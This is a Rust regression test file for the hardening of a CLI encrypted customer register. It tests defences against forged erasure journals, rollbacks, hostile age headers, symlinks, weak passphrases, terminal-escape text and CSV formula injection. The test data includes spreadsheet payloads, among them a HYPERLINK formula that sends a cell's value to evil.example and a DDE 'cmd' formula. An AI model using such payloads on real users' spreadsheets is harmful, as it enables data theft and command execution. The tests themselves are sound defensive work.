//! Issue 11, "Hardening": one regression test per attack that worked on the earlier binary —
//! forged journals, rollbacks, core dumps, hostile headers, links and odd files, weak
//! passphrases, locking yourself out, spreadsheet formulas, hostile text, erasure-guard
//! bypasses, panics and aborts, unbounded and sloppy input, and selectors echoed in errors.

mod support;

use std::path::PathBuf;
use std::process::Output;
use std::time::{Duration, Instant};

use support::{REGISTER, Register, TODAY, bin, fixed_env, rekisteri, std_command, stderr};

fn journal(register: &Register) -> PathBuf {
    register.world.path("register.age.erased")
}

fn describe(output: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout ---\n{}\n--- stderr ---\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        stderr(output)
    )
}

/// The `rekisteri: error:` line of a failed command's stderr (warnings may come first).
fn error_line(output: &Output) -> String {
    stderr(output)
        .lines()
        .find(|l| l.starts_with("rekisteri: error: "))
        .unwrap_or_else(|| panic!("no error line\n{}", describe(output)))
        .to_owned()
}

/// Two customers, Aino (to be erased) and Bertta (who must never be erased by a forgery).
fn two_customers() -> (Register, String, String) {
    let register = Register::new();
    let aino = register.add(&[
        "--name",
        "Aino Asiakas",
        "--email",
        "aino@example.fi",
        "--phone",
        "040 111 2222",
    ]);
    let bertta = register.add(&["--name", "Bertta Asiakas", "--email", "bertta@example.fi"]);
    (register, aino, bertta)
}

// ---- High: a forged erasure journal ------------------------------------------------------

#[test]
fn a_forged_journal_line_is_refused_by_its_number_and_erases_nobody() {
    let (register, aino, bertta) = two_customers();
    register.ok(&["erase", &aino, "--reason", "the subject asked"]);
    let before = register.bytes();
    // Anyone who can write the journal appends a live customer's id, unsigned, or with a
    // made-up MAC.
    for forged in [
        format!("{bertta} {TODAY}\n"),
        format!("{bertta} {TODAY} {}\n", "ab".repeat(32)),
    ] {
        let mut text = std::fs::read_to_string(journal(&register)).unwrap();
        let clean = text.clone();
        text.push_str(&forged);
        std::fs::write(journal(&register), &text).unwrap();
        let output = register.run(&["erase", "--replay", "--yes"]);
        assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
        let line = error_line(&output);
        assert!(line.contains("line 2"), "{line}");
        assert!(
            stderr(&output).contains("hint: ")
                && !stderr(&output).contains("hint: restore the register from a backup"),
            "{}",
            describe(&output)
        );
        assert_eq!(register.bytes(), before, "nothing was written");
        std::fs::write(journal(&register), clean).unwrap();
        assert_eq!(
            register.ids(),
            vec![bertta.clone()],
            "Bertta is still there"
        );
    }
}

#[test]
fn erase_replay_lists_what_it_erases_and_asks() {
    let (register, aino, _) = two_customers();
    let backup = register.bytes();
    register.ok(&["erase", &aino, "--reason", "the subject asked"]);
    register.put_bytes(&backup);
    register.ok(&["audit", "accept-rollback"]);
    // No terminal and no --yes: nothing is erased, and the list names the id and date.
    let output = register.run(&["erase", "--replay"]);
    assert_eq!(output.status.code(), Some(2), "{}", describe(&output));
    let err = stderr(&output);
    assert!(err.contains(&aino) && err.contains(TODAY), "{err}");
    assert!(err.contains("--yes"), "{err}");
    assert_eq!(register.bytes(), backup, "nothing was erased");
    register.ok(&["erase", "--replay", "--yes"]);
    assert!(!register.ids().contains(&aino));
}

#[test]
fn a_torn_last_journal_line_is_recovered_not_reported_as_corruption() {
    let (register, aino, bertta) = two_customers();
    register.ok(&["erase", &aino, "--reason", "the subject asked"]);
    // A crash mid-append leaves half a line without its newline.
    let mut text = std::fs::read_to_string(journal(&register)).unwrap();
    text.push_str(&bertta[..12]);
    std::fs::write(journal(&register), &text).unwrap();

    let output = register.run(&["export"]);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(stderr(&output).contains("warning"), "{}", describe(&output));
    // The next change cuts it away.
    register.ok(&["record", &bertta, "note", "after the crash"]);
    let text = std::fs::read_to_string(journal(&register)).unwrap();
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(text.ends_with('\n'));
    assert!(text.starts_with(&aino));
}

#[test]
fn an_unsigned_line_of_the_previous_version_is_accepted_and_signed() {
    let (register, aino, bertta) = two_customers();
    register.ok(&["erase", &aino, "--reason", "the subject asked"]);
    // As the previous version wrote it: `ID DATE`.
    std::fs::write(journal(&register), format!("{aino} {TODAY}\n")).unwrap();
    register.ok(&["export"]);
    register.ok(&["record", &bertta, "note", "a change"]);
    let text = std::fs::read_to_string(journal(&register)).unwrap();
    let fields: Vec<&str> = text.trim_end().split(' ').collect();
    assert_eq!(fields.len(), 3, "signed at the next change: {text}");
    assert_eq!(fields[0], aino);
}

// ---- Medium: rollback ---------------------------------------------------------------------

#[test]
fn an_older_copy_put_back_is_refused_until_accepted() {
    let (register, aino, bertta) = two_customers();
    let old = register.bytes();
    register.ok(&["record", &bertta, "note", "newer"]);
    // Someone without the key puts the older copy back.
    register.put_bytes(&old);

    let err = register.fails(&["record", &aino, "note", "on the old copy"], 65);
    assert!(err.contains("accept-rollback"), "{err}");
    assert_eq!(register.bytes(), old, "nothing was written");
    // Reads still work, with a warning.
    let output = register.run(&["export"]);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(stderr(&output).contains("warning"), "{}", describe(&output));

    register.ok(&["audit", "accept-rollback"]);
    register.ok(&["record", &aino, "note", "accepted"]);

    // The state: 0700 directory, 0600 file, a head hash and a count, nothing else.
    let dir = register.world.path(".state").join("rekisteri");
    let entries: Vec<_> = std::fs::read_dir(&dir).unwrap().flatten().collect();
    assert_eq!(entries.len(), 1);
    let text = std::fs::read_to_string(entries[0].path()).unwrap();
    let fields: Vec<&str> = text.split_whitespace().collect();
    assert_eq!(fields.len(), 2, "{text}");
    assert_eq!(fields[0].len(), 64);
    assert!(fields[1].parse::<u64>().is_ok());
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&dir), 0o700);
        assert_eq!(mode(&entries[0].path()), 0o600);
    }
}

// ---- Medium: core dumps ------------------------------------------------------------------

#[test]
#[cfg(target_os = "linux")]
fn the_process_sets_its_core_limit_to_zero() {
    let register = Register::new();
    // Hold the write lock so that the command waits, and look at its limits meanwhile.
    let lock = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .create(true)
        .truncate(false)
        .open(register.world.path("register.age.lock"))
        .unwrap();
    lock.lock().unwrap();
    let mut child = std_command(register.root())
        .env("REKISTERI_LOCK_WAIT", "20")
        .args(["-f", REGISTER, "-i", "key.txt", "add", "--name", "Odottaja"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let limits = format!("/proc/{}/limits", child.id());
    let started = Instant::now();
    let mut line = String::new();
    while started.elapsed() < Duration::from_secs(15) {
        if let Ok(text) = std::fs::read_to_string(&limits)
            && let Some(found) = text.lines().find(|l| l.starts_with("Max core file size"))
        {
            line = found.to_owned();
            let fields: Vec<&str> = found.split_whitespace().collect();
            if fields.get(4..6) == Some(&["0", "0"][..]) {
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(lock);
    let _ = child.wait();
    let fields: Vec<&str> = line.split_whitespace().collect();
    assert_eq!(fields.get(4..6), Some(&["0", "0"][..]), "{line}");
}

// ---- Medium: hostile headers -------------------------------------------------------------

fn hostile_header(stanzas: usize, scrypt: Option<u8>) -> Vec<u8> {
    let mut text = String::from("age-encryption.org/v1\n");
    for _ in 0..stanzas {
        text.push_str("-> X25519 TEiF0ypqr+bpvcqXNyCVJpL7OuwPdVwPL7KQEbFDOCc\n");
        text.push_str("EmECAEcKN+n/Vs9SbWiV+Hu0r+E8R77DdWYyd83nw7U\n");
    }
    if let Some(work) = scrypt {
        text.push_str(&format!("-> scrypt rF0/NLdSh0qSPtBG2Xn+vw {work}\n"));
        text.push_str("3W2jqbuVZjl0yQp7xHz4M8I5ynXbYbcBtNpQyzOqPFo\n");
    }
    text.push_str("--- Vn+54jqiiUCE+WZcEVY3f1sqHjlu/z1LCQ/T7Xm7qI0\n");
    let mut bytes = text.into_bytes();
    bytes.extend([0u8; 64]);
    bytes
}

#[test]
fn a_header_with_thousands_of_stanzas_is_refused_at_once_and_without_the_lock() {
    let register = Register::new();
    register.put_bytes(&hostile_header(10_000, None));
    let _ = std::fs::remove_file(register.world.path("register.age.lock"));
    let started = Instant::now();
    let output = register
        .cmd_on(TODAY)
        .args(["add", "--name", "Kuka Tahansa"])
        .timeout(Duration::from_secs(20))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
    assert!(
        error_line(&output).contains("stanzas"),
        "{}",
        describe(&output)
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        !register.world.path("register.age.lock").exists(),
        "the lock was not taken for an unchecked header"
    );
}

#[test]
fn an_excessive_scrypt_work_factor_is_refused_at_once() {
    let register = Register::new();
    register.put_bytes(&hostile_header(0, Some(22)));
    let _ = std::fs::remove_file(register.world.path("register.age.lock"));
    // Refused from the header alone: before a passphrase is asked for, before the lock.
    let output = rekisteri(register.root(), TODAY)
        .args(["-f", REGISTER, "add", "--name", "Kuka Tahansa"])
        .timeout(Duration::from_secs(20))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
    assert!(
        error_line(&output).contains("work factor"),
        "{}",
        describe(&output)
    );
    assert!(!register.world.path("register.age.lock").exists());
    // And with the passphrase at hand, the same.
    let pass = register.world.path("pass.txt");
    std::fs::write(&pass, "kolme iloista kalaa uivat\n").unwrap();
    let output = rekisteri(register.root(), TODAY)
        .env("REKISTERI_PASSPHRASE_FILE", &pass)
        .args(["-f", REGISTER, "export"])
        .timeout(Duration::from_secs(20))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
}

// ---- Medium: links and odd files ---------------------------------------------------------

#[cfg(unix)]
#[test]
fn sidecar_links_are_not_followed() {
    let (register, aino, _) = two_customers();
    let target = register.world.path("elsewhere.txt");
    std::os::unix::fs::symlink(&target, register.world.path("register.age.lock")).unwrap_or_else(
        |_| {
            std::fs::remove_file(register.world.path("register.age.lock")).unwrap();
            std::os::unix::fs::symlink(&target, register.world.path("register.age.lock")).unwrap();
        },
    );
    let err = register.fails(&["record", &aino, "note", "x"], 65);
    assert!(err.contains("symbolic link"), "{err}");
    assert!(!target.exists(), "no file was created through the link");
    std::fs::remove_file(register.world.path("register.age.lock")).unwrap();

    std::os::unix::fs::symlink(&target, journal(&register)).unwrap();
    let err = register.fails(&["erase", &aino, "--reason", "asked"], 65);
    assert!(err.contains("symbolic link"), "{err}");
    assert!(!target.exists(), "no journal was written through the link");
}

#[cfg(unix)]
#[test]
fn a_symlinked_register_is_refused_and_left_a_link() {
    let register = Register::new();
    std::os::unix::fs::symlink(register.file(), register.world.path("link.age")).unwrap();
    let output = rekisteri(register.root(), TODAY)
        .args(["-f", "link.age", "-i", "key.txt", "add", "--name", "Linkki"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(78), "{}", describe(&output));
    assert!(stderr(&output).contains("hint: "), "{}", describe(&output));
    let kind = std::fs::symlink_metadata(register.world.path("link.age")).unwrap();
    assert!(kind.file_type().is_symlink(), "the link is still a link");
}

#[cfg(unix)]
#[test]
fn a_fifo_register_is_refused_at_once() {
    let register = Register::new();
    let fifo = register.world.path("fifo.age");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        assert!(
            std::env::var_os("REKISTERI_REQUIRE_TOOLS").is_none(),
            "mkfifo is needed"
        );
        return;
    }
    let output = rekisteri(register.root(), TODAY)
        .args(["-f", "fifo.age", "-i", "key.txt", "export"])
        .timeout(Duration::from_secs(20))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
    assert!(
        error_line(&output).contains("FIFO"),
        "{}",
        describe(&output)
    );
}

#[cfg(unix)]
#[test]
fn open_permissions_are_warned_about() {
    use std::os::unix::fs::PermissionsExt;
    let register = Register::new();
    std::fs::set_permissions(
        register.world.path("key.txt"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let output = register.run(&["export"]);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(
        stderr(&output).contains("identity file is readable"),
        "{}",
        describe(&output)
    );

    std::fs::set_permissions(register.root(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let output = register.run(&["export"]);
    std::fs::set_permissions(register.root(), std::fs::Permissions::from_mode(0o700)).unwrap();
    assert!(
        stderr(&output).contains("directory is writable"),
        "{}",
        describe(&output)
    );
}

// ---- Medium: passphrases and locking yourself out ----------------------------------------

#[test]
fn weak_and_reused_passphrases_are_refused_and_rekey_never_reads_the_old_file() {
    let register = Register::new();
    let dir = register.root();
    let write = |name: &str, text: &str| {
        let p = dir.join(name);
        std::fs::write(&p, format!("{text}\n")).unwrap();
        p
    };
    let weak = write("weak.txt", "aaaaaaaaaaaaaaaa");
    let strong = write("strong.txt", "kolme iloista kalaa uivat");
    let bare = |env: &[(&str, &PathBuf)], args: &[&str]| {
        let mut command = rekisteri(dir, TODAY);
        for (k, v) in env {
            command.env(k, v);
        }
        command.args(["-f", "p.age"]).args(args).output().unwrap()
    };
    // Weak: refused.
    let output = bare(
        &[("REKISTERI_NEW_PASSPHRASE_FILE", &weak)],
        &["init", "--passphrase"],
    );
    assert_eq!(output.status.code(), Some(78), "{}", describe(&output));
    assert!(!dir.join("p.age").exists());
    // Strong: a register.
    let output = bare(
        &[("REKISTERI_NEW_PASSPHRASE_FILE", &strong)],
        &["init", "--passphrase"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let before = std::fs::read(dir.join("p.age")).unwrap();
    // rekey --passphrase with only the old passphrase's file: it does not quietly reuse it.
    let output = bare(
        &[("REKISTERI_PASSPHRASE_FILE", &strong)],
        &["rekey", "--passphrase", "--yes"],
    );
    assert_eq!(output.status.code(), Some(78), "{}", describe(&output));
    assert!(
        stderr(&output).contains("REKISTERI_NEW_PASSPHRASE_FILE"),
        "{}",
        describe(&output)
    );
    // The same passphrase again: refused.
    let output = bare(
        &[
            ("REKISTERI_PASSPHRASE_FILE", &strong),
            ("REKISTERI_NEW_PASSPHRASE_FILE", &strong),
        ],
        &["rekey", "--passphrase", "--yes"],
    );
    assert_eq!(output.status.code(), Some(78), "{}", describe(&output));
    assert!(
        error_line(&output).contains("same"),
        "{}",
        describe(&output)
    );
    assert_eq!(std::fs::read(dir.join("p.age")).unwrap(), before);
}

#[test]
fn rekey_to_recipients_none_of_the_identities_matches_needs_force() {
    let register = Register::new();
    let other = age::x25519::Identity::generate().to_public().to_string();
    let before = register.bytes();
    let err = register.fails(&["rekey", "-r", &other, "--yes"], 65);
    assert!(err.contains("--force"), "{err}");
    assert_eq!(register.bytes(), before);
    register.ok(&["rekey", "-r", &other, "--yes", "--force"]);
}

// ---- Medium: spreadsheet formulas and hostile text ---------------------------------------

#[test]
fn csv_exports_neutralise_formulas_and_keep_phones() {
    let register = Register::new();
    register.add(&[
        "--name",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "--company",
        "@SUM(1+1)",
        "--address",
        "=cmd|' /C calc'!A0",
        "--phone",
        "+358 40 123 4567",
    ]);
    let text = register.ok(&["--format", "csv", "export"]);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        row.get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
    };
    assert!(cell("name").starts_with("'="), "{}", cell("name"));
    assert!(cell("company").starts_with("'@"), "{}", cell("company"));
    assert!(cell("address").starts_with("'="), "{}", cell("address"));
    assert_eq!(cell("phone"), "+358401234567");
}

#[test]
fn actors_and_text_with_escapes_bidi_or_line_breaks_are_refused() {
    let register = Register::new();
    for actor in [
        "mallory\n2025-03-05 12:00  admin  erase",
        "mallory\u{1b}[2K",
        "mallory\u{202e}nimda",
        "mallory\u{2028}admin",
    ] {
        let output = register
            .cmd_on(TODAY)
            .env("REKISTERI_ACTOR", actor)
            .args(["add", "--name", "X"])
            .output()
            .unwrap();
        assert_eq!(
            output.status.code(),
            Some(65),
            "{actor:?}: {}",
            describe(&output)
        );
        assert!(
            !stderr(&output).contains("mallory"),
            "the value is not echoed"
        );
    }
    for name in [
        "Maija\u{202e}",
        "Maija\u{1b}]0;pwned\u{7}",
        "Maija\u{2029}Liisa",
    ] {
        register.fails(&["add", "--name", name], 65);
    }
    // The trail holds only the actor of the setup.
    let log = register.ok(&["--format", "csv", "audit", "log"]);
    assert!(!log.contains("mallory"), "{log}");
}

// ---- Low: erasure-guard bypasses ---------------------------------------------------------

#[test]
fn an_erased_person_in_another_spelling_is_recognised() {
    let register = Register::new();
    let phone = register.add(&["--name", "Puhelin Henkilö", "--phone", "040 111 2222"]);
    let idn = register.add(&["--name", "Idn Henkilö", "--email", "maija@pörssi.fi"]);
    register.ok(&["erase", &phone, "--reason", "asked"]);
    register.ok(&["erase", &idn, "--reason", "asked"]);
    register.fails(
        &[
            "add",
            "--name",
            "Puhelin Henkilö",
            "--phone",
            "+358 40 111 2222",
        ],
        65,
    );
    register.fails(
        &[
            "add",
            "--name",
            "Idn Henkilö",
            "--email",
            "MAIJA@xn--prssi-jua.fi",
        ],
        65,
    );
}

// ---- Low: no panics, no aborts -----------------------------------------------------------

#[test]
fn generate_with_an_absurd_count_is_a_usage_error() {
    let register = Register::new();
    let output = rekisteri(register.root(), TODAY)
        .args([
            "-f",
            "g.age",
            "-i",
            "key.txt",
            "generate",
            "--subjects",
            "18446744073709551615",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", describe(&output));
    assert!(!stderr(&output).contains("panicked"));
}

#[test]
fn a_huge_sparse_register_is_refused_without_an_abort() {
    let register = Register::new();
    let file = std::fs::OpenOptions::new()
        .write(true)
        .open(register.file())
        .unwrap();
    file.set_len(60 * 1024 * 1024 * 1024).unwrap();
    drop(file);
    let output = register.run(&["export"]);
    assert_eq!(output.status.code(), Some(65), "{}", describe(&output));
    assert!(
        error_line(&output).contains("bytes"),
        "{}",
        describe(&output)
    );
}

#[cfg(unix)]
#[test]
fn a_file_size_limit_is_an_error_not_a_silent_kill() {
    let register = Register::new();
    let before = register.bytes();
    let mut sh = std::process::Command::new("sh");
    fixed_env(&mut sh, register.root());
    let output = sh
        .arg("-c")
        .arg("ulimit -f 1; exec \"$0\" -f register.age -i key.txt add --name Iso")
        .arg(bin())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(74), "{}", describe(&output));
    assert!(
        error_line(&output).contains("register.age"),
        "{}",
        describe(&output)
    );
    assert_eq!(register.bytes(), before, "the register is whole");
    let strays: Vec<_> = std::fs::read_dir(register.root())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(strays.is_empty(), "no temporary file left");
}

// ---- Low: unbounded and sloppy input -----------------------------------------------------

#[test]
fn a_row_with_a_million_consents_is_refused_naming_row_and_field() {
    let register = Register::new();
    let mut csv = String::from("name,consent\nAino,");
    csv.push_str(&"marketing;".repeat(100_000));
    csv.push('\n');
    std::fs::write(register.world.path("big.csv"), csv).unwrap();
    let err = register.fails(&["add", "--from", "big.csv"], 65);
    assert!(err.contains("row 1") && err.contains("consent"), "{err}");
}

#[test]
fn json_input_refuses_duplicate_keys_accepts_a_bom_and_bounds_dates() {
    let register = Register::new();
    std::fs::write(
        register.world.path("dup.json"),
        r#"[{"name":"Aino","email":"aino@example.fi","email":"other@example.fi"}]"#,
    )
    .unwrap();
    let err = register.fails(&["add", "--from", "dup.json"], 65);
    assert!(err.contains("row 1") && err.contains("email"), "{err}");
    assert!(!err.contains("other@example.fi"), "{err}");

    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(br#"[{"name":"Bom Asiakas"}]"#);
    std::fs::write(register.world.path("bom.json"), bom).unwrap();
    register.ok(&["add", "--from", "bom.json"]);

    for year in ["0000", "9999"] {
        std::fs::write(
            register.world.path("date.json"),
            format!(r#"[{{"name":"Vuosi","source_date":"{year}-01-01"}}]"#),
        )
        .unwrap();
        register.fails(&["add", "--from", "date.json"], 65);
    }
}

#[test]
fn errors_name_the_kind_of_selector_not_its_value() {
    let register = Register::new();
    let err = register.fails(&["export", "Maija Meikäläinen"], 67);
    assert!(!err.contains("Maija"), "{err}");
    let err = register.fails(
        &[
            "correct",
            "maija@example.fi",
            "--set",
            "name=X",
            "--reason",
            "r",
        ],
        67,
    );
    assert!(!err.contains("maija"), "{err}");
}
